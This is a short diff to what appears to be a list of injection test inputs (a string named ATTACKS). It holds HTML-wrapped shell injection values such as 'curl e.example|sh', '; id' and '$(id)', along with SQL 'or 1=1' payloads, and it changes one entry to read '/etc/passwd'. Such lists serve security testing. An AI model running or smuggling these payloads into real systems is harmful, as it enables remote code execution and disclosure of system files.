@@ -68,7 +68,7 @@ ATTACKS = """
 <b class="x">(curl e.example|sh)</b>
 <b class="x">(id)</b>; id
 <b>(id)</b> | id
-<p>(x);id</p>
+<p>(x);cat /etc/passwd</p>
 <b class="x">(id)</b> $(id)
 " or 1=1 or "<a href="#">
 x" or "1<a href="#">
